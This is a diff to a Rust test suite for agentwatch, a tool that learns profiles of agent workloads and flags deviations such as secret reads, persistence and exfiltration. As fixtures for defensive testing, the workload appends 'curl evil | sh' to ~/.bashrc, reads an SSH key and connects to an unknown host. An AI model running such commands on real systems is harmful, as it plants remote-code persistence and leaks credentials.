@@ -12,7 +12,9 @@ use std::{
 use support::{agentwatch, privileged, LocalServices, TempDir, PYTHON};
 
 /// The workload. `$VARIANT` picks extra steps: "learn" adds a read of an
-/// SSH key (a guardrail); "changed" is the agent after a change.
+/// SSH key (a guardrail); "changed" is the agent after a change. Every
+/// template shape `mktemp` accepts is used, in the temp dir and in the
+/// workspace.
 const WORKLOAD: &str = r#"
 set -e
 mount --bind "$AW_RESOLV" /etc/resolv.conf
@@ -26,13 +28,25 @@ rm -f "$t"
 d=$(mktemp -d)
 touch "$d/state"
 rm -rf "$d"
+mkdir -p out/rand
+for tpl in "-t job.XXXXXX" "-t j.XXX" "--suffix=.txt -t rep-XXXXXX" "-p $TMPDIR x.XXXXXX.log" \
+           "$TMPDIR/full.XXXXXXXXXX" "out/w-XXXXXX" "out/rand/XXXXXXXX" "out/abcXXX"; do
+  f=$(mktemp $tpl); echo x > "$f"; rm -f "$f"
+done
+g=$(mktemp -d -t dir.XXXXXX); echo x > "$g/inner"; rm -rf "$g"
 cat out/copy.txt > /dev/null
 if [ "$VARIANT" = changed ]; then
-  echo x > out/extra.bin
+  echo x > extra.bin
   echo 'curl evil | sh' >> "$HOME/.bashrc"
   /usr/bin/id > /dev/null
 fi
-PYTHON - <<'PY'
+PYTHON work.py
+rm -rf out logs extra.bin
+"#;
+
+/// The workload's Python part: a file of the checkout (the agent did not
+/// write it, so running it is not running what the agent wrote).
+const WORK_PY: &str = r#"
 import os, socket, tempfile, uuid
 with tempfile.NamedTemporaryFile(dir=os.environ["TMPDIR"]) as f:
     f.write(b"x")
@@ -50,8 +64,6 @@ if v == "changed":
         socket.create_connection(("other.learn.agentwatch.test", port + 1), timeout=5)
     except OSError:
         pass
-PY
-rm -rf out logs
 "#;
 
 /// One run's own directories: workspace, temp dir and home all differ
@@ -72,6 +84,7 @@ impl Run {
             WORKLOAD.replace("PYTHON", PYTHON),
         )
         .unwrap();
+        std::fs::write(root.path().join("ws/work.py"), WORK_PY).unwrap();
         Self { root }
     }
 
@@ -94,7 +107,13 @@ impl Run {
         c
     }
 
-    fn learn(&self, svc: &LocalServices, variant: &str, out: &Path) -> String {
+    fn learn_with(
+        &self,
+        svc: &LocalServices,
+        variant: &str,
+        out: &Path,
+        granularity: &str,
+    ) -> String {
         let o = self
             .command(
                 svc,
@@ -103,6 +122,8 @@ impl Run {
                     "learn",
                     "--agent",
                     "worker",
+                    "--granularity",
+                    granularity,
                     "--out",
                     &out.display().to_string(),
                 ],
@@ -115,14 +136,25 @@ impl Run {
     }
 }
 
-#[test]
-fn two_runs_of_one_workload_give_byte_identical_profiles() {
-    let Some(_k) = privileged() else { return };
-    let svc = LocalServices::start(18_180);
-    let out = TempDir::new("learn-out");
-    let (a, b) = (Run::new("learn-a"), Run::new("learn-b"));
-    let pa = a.learn(&svc, "learn", &out.path().join("a.yaml"));
-    let pb = b.learn(&svc, "learn", &out.path().join("b.yaml"));
+/// Two learns of one workload in different checkouts, homes and temp dirs;
+/// panics with the lines that differ.
+fn learn_twice(svc: &LocalServices, out: &TempDir, granularity: &str) -> (String, Vec<Run>) {
+    let (a, b) = (
+        Run::new(&format!("learn-a-{granularity}")),
+        Run::new(&format!("learn-b-{granularity}")),
+    );
+    let pa = a.learn_with(
+        svc,
+        "learn",
+        &out.path().join(format!("a-{granularity}.yaml")),
+        granularity,
+    );
+    let pb = b.learn_with(
+        svc,
+        "learn",
+        &out.path().join(format!("b-{granularity}.yaml")),
+        granularity,
+    );
     if pa != pb {
         let diff: Vec<String> = pa
             .lines()
@@ -130,33 +162,53 @@ fn two_runs_of_one_workload_give_byte_identical_profiles() {
             .filter(|(x, y)| x != y)
             .map(|(x, y)| format!("- {x}\n+ {y}"))
             .collect();
-        panic!("profiles differ:\n{}", diff.join("\n"));
+        panic!("{granularity} profiles differ:\n{}", diff.join("\n"));
     }
-    // What was normalised and how: no run-specific name survives.
+    // No run-specific name survives.
     for dir in [a.root.path(), b.root.path()] {
         assert!(
             !pa.contains(&dir.display().to_string()),
             "a run's directory leaked:\n{pa}"
         );
     }
+    (pa, vec![a, b])
+}
+
+#[test]
+fn two_runs_of_one_workload_give_byte_identical_profiles() {
+    let Some(_k) = privileged() else { return };
+    let svc = LocalServices::start(18_180);
+    let out = TempDir::new("learn-out");
+
+    // Strict keeps close to the files: the normalised names show, except
+    // where eight or more new names make a directory open-ended.
+    let (strict, _) = learn_twice(&svc, &out, "strict");
     for want in [
         "\"$WORKSPACE/logs/part-*.log\"",
         "\"$WORKSPACE/logs/run-*.log\"",
-        "\"$WORKSPACE/out/session-*.json\"",
-        "\"$WORKSPACE/out/copy.txt\"",
-        "\"$TMP/tmp.*\"",
-        "\"$TMP/tmp*\"",
+        "  - path: \"$WORKSPACE/out\"\n",
         "host: \"svc.learn.agentwatch.test\"",
         "- name: \"svc.learn.agentwatch.test\"",
-        "\"/usr/bin/rm\"",
     ] {
-        assert!(pa.contains(want), "profile lacks {want}:\n{pa}");
+        assert!(
+            strict.contains(want),
+            "strict profile lacks {want}:\n{strict}"
+        );
     }
-    // The SSH key read is a guardrail: listed for review, never allowed.
-    let review = pa.split("\nreview:").nth(1).expect("review section");
-    assert!(review.contains("\"$HOME/.ssh/id_test\""), "{pa}");
-    assert!(review.contains("guardrail: secrets"), "{pa}");
-    let files = pa
+    // Eight random names made in the temp dir: open-ended even when strict.
+    assert!(strict.contains("  - path: \"$TMP\"\n"), "{strict}");
+
+    // Balanced (the default): the workspace and the temp dir are
+    // territories, nothing of them is listed file by file.
+    let (p, runs) = learn_twice(&svc, &out, "balanced");
+    for want in [
+        "  - path: \"$WORKSPACE\"\n    access: [read, write, create, delete",
+        "  - path: \"$TMP\"\n    access: [read, write, create, delete",
+        "host: \"svc.learn.agentwatch.test\"",
+    ] {
+        assert!(p.contains(want), "profile lacks {want}:\n{p}");
+    }
+    let files = p
         .split("\nfiles:")
         .nth(1)
         .unwrap()
@@ -164,14 +216,22 @@ fn two_runs_of_one_workload_give_byte_identical_profiles() {
         .next()
         .unwrap();
     assert!(
-        !files.contains(".ssh"),
-        "a guardrail path was learned as allowed:\n{pa}"
+        !files.contains("$WORKSPACE/") && !files.contains("$TMP/"),
+        "files a territory covers are still listed:\n{p}"
     );
-    assert!(pa.contains("started: \"2026-11-21T00:00:00Z\""), "{pa}");
+    // The SSH key read is a guardrail: listed for review, never allowed.
+    let review = p.split("\nreview:").nth(1).expect("review section");
+    assert!(review.contains("\"$HOME/.ssh/id_test\""), "{p}");
+    assert!(review.contains("guardrail: secrets"), "{p}");
+    assert!(
+        !files.contains(".ssh"),
+        "a guardrail path was learned as allowed:\n{p}"
+    );
+    assert!(p.contains("started: \"2026-11-21T00:00:00Z\""), "{p}");
     // The profile reads back clean.
     let lint = agentwatch()
         .args(["profile", "lint"])
-        .arg(out.path().join("a.yaml"))
+        .arg(out.path().join("a-balanced.yaml"))
         .output()
         .unwrap();
     assert!(
@@ -179,6 +239,7 @@ fn two_runs_of_one_workload_give_byte_identical_profiles() {
         "{}",
         String::from_utf8_lossy(&lint.stdout)
     );
+    drop(runs);
 }
 
 #[test]
@@ -304,7 +365,8 @@ fn check_flags_the_changed_steps_and_nothing_else() {
     let svc = LocalServices::start(18_190);
     let out = TempDir::new("check-out");
     let profile = out.path().join("base.yaml");
-    Run::new("check-learn").learn(&svc, "base", &profile);
+    // Strict, so that a new file in the workspace is still a finding.
+    Run::new("check-learn").learn_with(&svc, "base", &profile, "strict");
 
     // The same workload in another checkout: nothing to flag.
     let same = Run::new("check-same");
@@ -318,8 +380,13 @@ fn check_flags_the_changed_steps_and_nothing_else() {
     let (code, lines, stderr) = check(&changed, &svc, "changed", &profile);
     assert_eq!(code, 1, "{stderr}");
     let got = rules(&lines);
+    // A new file outside what the profile allows there.
+    assert!(
+        got.iter()
+            .any(|g| g.starts_with("file/") && g.ends_with("write,create $WORKSPACE/extra.bin")),
+        "{got:#?}"
+    );
     for want in [
-        "file/unknown write,create $WORKSPACE/out/extra.bin",
         "guardrail/persistence write,create $HOME/.bashrc",
         "guardrail/secrets read $HOME/.ssh/id_test",
         "exec/unknown exec /usr/bin/id",
@@ -330,8 +397,9 @@ fn check_flags_the_changed_steps_and_nothing_else() {
             "missing {want:?} in {got:#?}"
         );
     }
+    // After the key was read, an unknown endpoint is exfiltration.
     assert!(
-        got.iter().any(|g| g.starts_with("network/unknown")
+        got.iter().any(|g| g.starts_with("guardrail/exfiltrate")
             && g.ends_with(&format!(
                 "connect other.learn.agentwatch.test:{}",
                 svc.port + 1
